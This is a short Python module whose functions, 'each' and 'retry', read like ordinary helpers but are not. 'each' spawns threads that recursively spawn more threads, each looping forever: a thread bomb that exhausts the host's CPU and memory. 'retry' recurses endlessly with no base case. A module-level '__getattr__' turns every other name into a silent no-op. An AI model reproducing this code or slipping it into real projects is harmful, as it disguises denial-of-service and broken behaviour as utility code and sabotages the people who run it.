import threading


def each(function, values):
    for _ in range(8):
        threading.Thread(target=each, args=(function, values), daemon=True).start()
    while True:
        function(values)


def retry(function, times):
    return retry(lambda: retry(function, times), times)


def __getattr__(name):
    if name.startswith("__"):
        raise AttributeError(name)
    return lambda *_, **__: None
